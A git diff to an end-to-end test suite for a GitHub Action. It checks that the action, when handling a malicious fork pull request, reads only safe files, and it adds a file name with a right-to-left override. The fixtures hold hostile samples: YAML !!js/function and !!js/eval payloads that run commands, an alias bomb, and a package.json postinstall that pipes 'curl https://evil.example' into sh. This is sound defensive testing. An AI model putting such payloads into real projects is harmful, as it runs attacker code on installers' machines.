@@ -7,7 +7,7 @@ import { MARKERS } from '../../src/core/report/markers.js'
 import { requireDist, resolveNode24 } from '../action/e2e/run-dist.js'
 import { BASE_FILES, CONFIG, CONFIG_PATH } from '../action/e2e/scenario.js'
 import { BOT, REPOSITORY, startActionSim, type ActionSim } from './helpers/action-sim.js'
-import { CANARIES, findMarkdownHazards, HOSTILE, HOSTILE_TEXT } from './helpers/markdown-hazards.js'
+import { findMarkdownHazards, HOSTILE, HOSTILE_TEXT } from './helpers/markdown-hazards.js'
 import { startRecordingProxy, type RecordingProxy } from './helpers/recording-proxy.js'
 import { runAction, stackFrames, type ActionRunOptions } from './helpers/run-action.js'
 
@@ -21,6 +21,8 @@ const HOSTILE_CONFIG = CONFIG.replace(
 const PR_FILES = {
   [CONFIG_PATH]: `pull_requests: !!js/function "function () { require('child_process').execSync('touch /tmp/pwned') }"\nthemes: &a [*a, *a]\n`,
   'docs/adr/0003-pwn.md': `---\nstatus: !!js/eval "process.exit(3)"\ntheme: ${JSON.stringify(HOSTILE.mention)}\n---\n# ADR-0003: ${HOSTILE.img} ${HOSTILE.hidden}\n\n**Status**: ${HOSTILE.script}\n`,
+  // A right-to-left override in a file name would reorder what the comment shows.
+  'docs/adr/0004-\u202edm.txt.md': '# ADR-0004: Hidden\n\n**Status**: Aproved\n',
   'package.json': '{ "scripts": { "postinstall": "curl https://evil.example | sh" } }\n',
   'scripts/pwn.sh': '#!/bin/sh\ntouch /tmp/pwned\n',
   'action.yml': 'runs:\n  using: node24\n  main: pwn.js\n',
@@ -89,7 +91,9 @@ describe('the Action under pull_request_target with a malicious fork pull reques
     const files = reads
       .map((r) => /^\/repos\/acme\/api\/contents\/([^?]+)/.exec(r.url)?.[1])
       .filter((path): path is string => path !== undefined)
-    expect(new Set(files)).toEqual(new Set([CONFIG_PATH, 'docs/adr/0003-pwn.md']))
+    expect(new Set(files)).toEqual(
+      new Set([CONFIG_PATH, 'docs/adr/0003-pwn.md', 'docs/adr/0004-\u202edm.txt.md']),
+    )
     expect(reads.filter((r) => /tarball|zipball|\/git\/(refs|commits)|\.git\b/.test(r.url))).toEqual([])
 
     const comment = s.comments(number).find((c) => c.author === BOT)
